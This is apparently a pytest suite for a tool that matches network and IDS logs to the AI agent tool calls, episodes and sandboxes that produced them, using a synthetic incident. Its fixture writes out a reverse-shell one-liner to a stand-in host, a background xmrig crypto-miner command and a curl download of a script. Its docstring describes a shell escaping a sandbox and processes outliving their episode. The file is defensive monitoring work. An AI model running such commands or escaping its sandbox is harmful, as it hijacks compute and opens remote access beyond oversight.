"""The attribution gaps of correlation v1, on a generated two-node incident with NAT and clock skew.

Two nodes, four episodes each, calls overlapping across episodes. Into that:

- a miner started in the background (episode mode) whose one connection is
  reported for ten minutes after its call ended: by conntrack (NEW, then DESTROY
  with the same id), by Suricata alerts sharing a ``flow_id``, and by the cloud
  flow log's one-minute records of the same outside 5-tuple;
- a reverse shell that escaped its sandbox and dials from the node's own
  address minutes later, while other calls run there;
- two calls of one episode both within the skew window of a sandbox record:
  only one command names the destination; for another pair only one names the
  right port; for a third, the record lies inside one call's interval only;
- a process a sandbox left running after its last call, named by no command;
- UDP alerts with nothing but the node address and the time.
"""

from __future__ import annotations

import csv
import json
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path

import pytest

from corral.correlate import Attribution, CorrelationResult, correlate

T0 = 1795100000.0
NODES = {"a": "192.0.2.10", "b": "192.0.2.11"}
FW_SKEW = 1.5  # the cloud firewall and the IDS run ahead of the trainer's clock
CT_SKEW = 0.2
POOL, SHELL, WEB, GIT, PYPI, IRC, DNS = (
    "203.0.113.66",
    "203.0.113.77",
    "203.0.113.20",
    "203.0.113.30",
    "198.51.100.7",
    "203.0.113.88",
    "203.0.113.53",
)


def _sb_ip(node: str, i: int) -> str:
    return f"192.0.2.{(100 if node == 'a' else 110) + i}"


def _iso(t: float) -> str:
    return datetime.fromtimestamp(t, UTC).strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "+00:00"


@dataclass
class Incident:
    dir: Path
    trace: Path
    logs: list[Path]


# (episode, turn) -> (start offset, end offset, command): the calls that differ from the background.
SPECIAL: dict[tuple[str, int], tuple[float, float, str]] = {
    ("e-a1", 2): (43.0, 46.0, f"nohup ./xmrig -o {POOL}:3333 --donate-level 0 >/dev/null 2>&1 &"),
    ("e-b2", 3): (66.0, 76.0, f"bash -c 'sh -i >& /dev/tcp/{SHELL}/4444 0>&1' &"),
    ("e-a2", 4): (86.0, 96.0, f"curl -fsSL http://{WEB}/get.sh -o get.sh"),
    ("e-a2", 5): (97.0, 104.0, "chmod +x get.sh"),
    ("e-b1", 5): (103.0, 108.0, f"curl -s http://{GIT}:80/data.json"),
    ("e-b1", 6): (109.0, 115.0, f"ssh -p 22 git@{GIT} ls"),
    ("e-a3", 3): (69.0, 79.0, "pip install pkg3"),
    ("e-a3", 4): (80.0, 88.0, "pip install pkg4"),
    ("e-b3", 1): (29.0, 31.0, "./start-worker.sh &"),
}


def _generate(tmp: Path) -> Incident:
    calls = []
    for node in NODES:
        for i in range(4):
            ep = f"e-{node}{i}"
            for turn in range(8):
                start, end, cmd = SPECIAL.get((ep, turn), (i * 3 + turn * 20, i * 3 + turn * 20 + 10, ""))
                calls.append(
                    dict(
                        run_id="r1",
                        step=turn // 4,
                        episode_id=ep,
                        turn=turn,
                        tool_call_id=f"{ep}-t{turn}",
                        sandbox_id=f"sb-{ep}",
                        host=NODES[node],
                        sandbox_ip=_sb_ip(node, i),
                        start=T0 + start,
                        end=T0 + end,
                        command=cmd or f"pip install pkg{turn}",
                        blocked=False,
                        exit_code=0,
                        stdout=f"output of {ep} turn {turn}",
                    )
                )
    trace = tmp / "trace.jsonl"
    trace.write_text("".join(json.dumps(c) + "\n" for c in calls))

    # conntrack on node-a: the miner's connection, NAT to the node's port 30001, entry id 501.
    ct = tmp / "conntrack-node-a.log"
    tuple_ = (
        f"src={_sb_ip('a', 1)} dst={POOL} sport=41000 dport=3333 "
        f"src={POOL} dst={NODES['a']} sport=3333 dport=30001"
    )
    ct.write_text(
        f"[{T0 + 44 + CT_SKEW:.6f}] [NEW] tcp 6 120 SYN_SENT {tuple_} id=501\n"
        f"[{T0 + 664 + CT_SKEW:.6f}] [DESTROY] tcp 6 {tuple_} id=501\n"
    )
    # conntrack on node-b: e-b3's worker connects during its call; the entry is destroyed 15 min later.
    ct_b = tmp / "conntrack-node-b.log"
    tuple_b = (
        f"src={_sb_ip('b', 3)} dst={IRC} sport=43001 dport=6667 "
        f"src={IRC} dst={NODES['b']} sport=6667 dport=31001"
    )
    ct_b.write_text(
        f"[{T0 + 30 + CT_SKEW:.6f}] [NEW] tcp 6 120 SYN_SENT {tuple_b} id=777\n"
        f"[{T0 + 930 + CT_SKEW:.6f}] [DESTROY] tcp 6 {tuple_b} id=777\n"
    )
    # Suricata on node-a's uplink: miner check-ins on the outside tuple, one flow_id, every minute.
    eve = tmp / "eve.json"
    with eve.open("w") as f:
        for k in range(10):
            t = T0 + 50 + 60 * k + FW_SKEW
            f.write(
                json.dumps(
                    {
                        "timestamp": _iso(t),
                        "flow_id": 9001,
                        "event_type": "alert",
                        "src_ip": NODES["a"],
                        "src_port": 30001,
                        "dest_ip": POOL,
                        "dest_port": 3333,
                        "proto": "TCP",
                        "host": "ids-a",
                        "alert": {
                            "action": "allowed",
                            "signature": "ET POLICY Cryptocurrency Miner Checkin",
                            "signature_id": 2024792,
                            "severity": 1,
                            "category": "Crypto Currency Mining",
                        },
                    }
                )
                + "\n"
            )
    # The cloud flow log (AWS), one-minute windows: the miner's flow, then the escaped shell.
    flow = tmp / "vpc-flow.log"
    rows = [
        "version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end "
        "action log-status"
    ]
    for k in range(11):
        w = int(T0) + 60 * k
        rows.append(f"2 123456789012 eni-a {NODES['a']} {POOL} 30001 3333 6 20 4000 {w} {w + 60} ACCEPT OK")
    for k in range(2, 7):
        w = int(T0) + 60 * k
        rows.append(f"2 123456789012 eni-b {NODES['b']} {SHELL} 45000 4444 6 3 180 {w} {w + 60} REJECT OK")
    flow.write_text("\n".join(rows) + "\n")
    # The nodes' own nftables LOG lines for sandbox traffic (sandbox source addresses).
    nft = tmp / "nft-syslog.log"
    lines = []
    for t, node, sb, dst, dport in [
        (96.5, "a", _sb_ip("a", 2), WEB, 80),
        (108.6, "b", _sb_ip("b", 1), GIT, 22),
        (108.4, "b", _sb_ip("b", 1), GIT, 80),
        (78.5, "a", _sb_ip("a", 3), PYPI, 443),
    ]:
        lines.append(
            f"{_iso(T0 + t)} node-{node} kernel: [ 1.0] CORRAL-DROP IN=veth0 OUT=eth0 SRC={sb} DST={dst} "
            f"LEN=60 PROTO=TCP SPT=40500 DPT={dport}"
        )
    nft.write_text("\n".join(lines) + "\n")
    # Hubble: a process e-b3 left running talks long after e-b3's last call (allowed, so no incident).
    hubble = tmp / "hubble.json"
    hubble.write_text(
        json.dumps(
            {
                "flow": {
                    "time": _iso(T0 + 400),
                    "verdict": "FORWARDED",
                    "IP": {"source": _sb_ip("b", 3), "destination": IRC},
                    "l4": {"TCP": {"source_port": 43000, "destination_port": 6667}},
                    "traffic_direction": "EGRESS",
                    "node_name": "node-b",
                }
            }
        )
        + "\n"
    )
    # The cloud firewall's UDP alerts on node-b's address: node and time are all there is.
    fw = tmp / "cloudfw.csv"
    with fw.open("w", newline="") as f:
        w = csv.writer(f)
        w.writerow(
            [
                "__time__",
                "__topic__",
                "attack_type_name_en",
                "src_ip",
                "src_port",
                "dst_ip",
                "dst_port",
                "ip_protocol",
                "rule_result",
                "start_time",
                "end_time",
            ]
        )
        for t in (70, 135):
            ft = int(T0 + t + FW_SKEW)
            w.writerow(
                [
                    ft,
                    "cloudfirewall_access_log",
                    "DNS Tunnel",
                    NODES["b"],
                    5353,
                    DNS,
                    53,
                    "udp",
                    "alert",
                    ft,
                    ft,
                ]
            )
    return Incident(tmp, trace, [ct, ct_b, eve, flow, nft, hubble, fw])


@pytest.fixture(scope="module")
def result(tmp_path_factory: pytest.TempPathFactory) -> CorrelationResult:
    inc = _generate(tmp_path_factory.mktemp("gaps"))
    return correlate([inc.trace], inc.logs, skew_s=2.0)


def _by_file(result: CorrelationResult, name: str) -> list[Attribution]:
    return sorted((a for a in result.attributions if a.log_file.endswith(name)), key=lambda a: a.log_line)


def test_miner_flow_after_its_call_is_attributed_to_it(result: CorrelationResult) -> None:
    miner = "e-a1-t2"
    alerts = _by_file(result, "eve.json")
    assert len(alerts) == 10 and all(a.tool_call_id == miner for a in alerts)
    # The first check-in is 5 s after the call ended, but conntrack's NAT entry dates the connection.
    assert (alerts[0].method, alerts[0].timing) == ("conntrack_nat", "inside")
    later = alerts[1:]
    assert {a.method for a in later} == {"flow_continuation"}
    assert all(a.continues and a.continues.endswith("eve.json:1") for a in later)
    assert all("continues the flow of" in a.evidence for a in later)
    # The cloud flow log's records of the same outside 5-tuple: every minute for ten minutes.
    flows = [a for a in _by_file(result, "vpc-flow.log") if a.remote_ip == POOL]
    assert len(flows) == 11 and all(a.tool_call_id == miner for a in flows)
    # The windows near the NEW and DESTROY entries have NAT evidence (the last one names the pool,
    # so the command decides among the sandbox's ended calls); those between only continue the flow.
    assert [a.method for a in flows] == ["conntrack_nat"] * 2 + ["flow_continuation"] * 8 + ["conntrack_nat"]
    assert (flows[-1].timing, flows[-1].tie_break) == ("after", "names_address")
    # conntrack's DESTROY, ten minutes on: the sandbox's calls had all ended; the miner's names the pool.
    new, destroy = _by_file(result, "conntrack-node-a.log")
    assert (new.tool_call_id, new.method, new.timing) == (miner, "sandbox_ip_time", "inside")
    assert (destroy.tool_call_id, destroy.timing, destroy.tie_break) == (miner, "after", "names_address")


def test_a_record_in_two_flows_follows_its_id_wherever_the_logs_lie(tmp_path: Path) -> None:
    # Each Suricata check-in is in the flow of its flow_id and in its 5-tuple's; the id's flow, anchored
    # by the first check-in, must win whatever the log file is called (its path is in the flow's key:
    # choosing by the keys' hashes went the tuple's way for about 1 path in 13).
    for i in range(40):
        where = tmp_path / f"incident-{i}"
        where.mkdir()
        inc = _generate(where)
        later = _by_file(correlate([inc.trace], inc.logs, skew_s=2.0), "eve.json")[1:]
        assert later and all(a.continues and a.continues.endswith("eve.json:1") for a in later), where


def test_conntrack_id_carries_a_flow_no_command_names(result: CorrelationResult) -> None:
    new, destroy = _by_file(result, "conntrack-node-b.log")
    assert (new.tool_call_id, new.timing) == ("e-b3-t1", "inside")
    # Fifteen minutes later, only the entry's id ties the DESTROY to the call that opened it.
    assert (destroy.tool_call_id, destroy.method) == ("e-b3-t1", "flow_continuation")
    assert destroy.continues is not None and destroy.continues.endswith("conntrack-node-b.log:1")
    assert result.unattributed == [] or all(
        u.dst_ip != POOL and u.src_ip != POOL for u in result.unattributed
    )


def test_escaped_shell_dialling_from_the_node_belongs_to_the_call_that_started_it(
    result: CorrelationResult,
) -> None:
    shell = [a for a in _by_file(result, "vpc-flow.log") if a.remote_ip == SHELL]
    assert len(shell) == 5
    for a in shell:
        # Other calls ran on node-b then; only this one's command names the address, and it had ended.
        assert (a.tool_call_id, a.method, a.timing) == ("e-b2-t3", "node_time_command", "after")
        assert "left running" in a.evidence and "names the destination" in a.evidence


def test_two_same_episode_candidates_one_command_names_the_destination(result: CorrelationResult) -> None:
    [a] = [x for x in _by_file(result, "nft-syslog.log") if x.remote_ip == WEB]
    assert (a.method, a.episode_id, a.tool_call_id) == ("sandbox_ip_time", "e-a2", "e-a2-t4")
    assert (a.tie_break, a.ruled_out, a.candidate_count) == ("names_address", 1, 1)
    assert f"only the chosen command names {WEB}:80" in a.evidence


def test_port_disagreement_decides_between_calls_naming_the_same_host(result: CorrelationResult) -> None:
    got = {x.remote_port: x for x in _by_file(result, "nft-syslog.log") if x.remote_ip == GIT}
    # A flow to :22 is not the call whose command names :80, and the other way round.
    assert (got[22].tool_call_id, got[22].tie_break) == ("e-b1-t6", "port_disagreement")
    assert (got[80].tool_call_id, got[80].tie_break) == ("e-b1-t5", "port_disagreement")
    assert "name only other ports" in got[22].evidence


def test_inside_the_interval_beats_the_skew_allowance(result: CorrelationResult) -> None:
    [a] = [x for x in _by_file(result, "nft-syslog.log") if x.remote_ip == PYPI]
    assert (a.tool_call_id, a.timing, a.tie_break) == ("e-a3-t3", "inside", "inside_interval")


def test_process_left_running_keeps_its_episode_and_every_earlier_call(result: CorrelationResult) -> None:
    [a] = _by_file(result, "hubble.json")
    assert (a.method, a.episode_id, a.tool_call_id, a.timing) == ("sandbox_ip_time", "e-b3", None, "after")
    assert a.candidates == [f"e-b3-t{t}" for t in range(8)] and a.episode_count == 1
    assert "left running" in a.evidence


def test_node_only_evidence_keeps_every_plausible_candidate(result: CorrelationResult) -> None:
    udp = _by_file(result, "cloudfw.csv")
    assert len(udp) == 2
    by_id = result.calls_by_id
    for a in udp:
        assert a.method == "node_time" and a.tool_call_id is None and a.episode_count > 1
        assert "every call running there is kept" in a.evidence
        t = a.time or 0.0
        running = {
            c.tool_call_id
            for c in by_id.values()
            if c.host == NODES["b"] and c.start - 2 <= (a.end or t) and c.end + 2 >= t
        }
        assert set(a.candidates) == running


def test_one_incident_per_guilty_episode(result: CorrelationResult) -> None:
    incs = result.incidents
    certain = {(i.episode_id): i for i in incs if not i.ambiguous}
    assert set(certain) == {"e-a1", "e-b2", "e-a2", "e-b1", "e-a3"}
    miner = certain["e-a1"]
    assert miner.tool_call_ids == ["e-a1-t2"] and miner.record_count == 10
    assert miner.first_command is not None and POOL in miner.first_command
    assert (miner.calls_ran, miner.calls_blocked, miner.calls_unknown) == (1, 0, 0)
    # The UDP alert whose candidates include the escaped shell's call is shown with its incident.
    shell = certain["e-b2"]
    assert shell.tool_call_ids == ["e-b2-t3"] and len(shell.shared_attribution_indexes) == 1
    # The other UDP alert fits no guilty call: an honest ambiguous incident of its own.
    [amb] = [i for i in incs if i.ambiguous]
    assert amb.record_count == 1 and len(amb.candidate_episodes) >= 2
    # No call is in two incidents.
    seen: set[str] = set()
    for i in incs:
        assert not seen & set(i.tool_call_ids)
        seen |= set(i.tool_call_ids)


def test_report_carries_outcomes_output_and_episodes(result: CorrelationResult) -> None:
    rep = result.report()
    assert rep.summary is not None
    assert (rep.summary.agent_calls, rep.summary.trusted_calls, rep.summary.incidents) == (64, 0, 6)
    assert rep.summary.call_sources == ["trace file"]
    call = rep.calls["e-a1-t2"]
    assert (call.status, call.stdout) == ("ran", "output of e-a1 turn 2")
    ep = next(e for e in rep.episodes if e.episode_id == "e-a1")
    assert ep.call_ids == [f"e-a1-t{t}" for t in range(8)]
    inc = next(i for i in rep.incidents if i.episode_id == "e-a1")
    assert inc.episode_ref == ep.id and ep.incident_ids == [inc.id]
    again = type(rep).model_validate_json(json.dumps(rep.to_jsonable()))
    assert again == rep
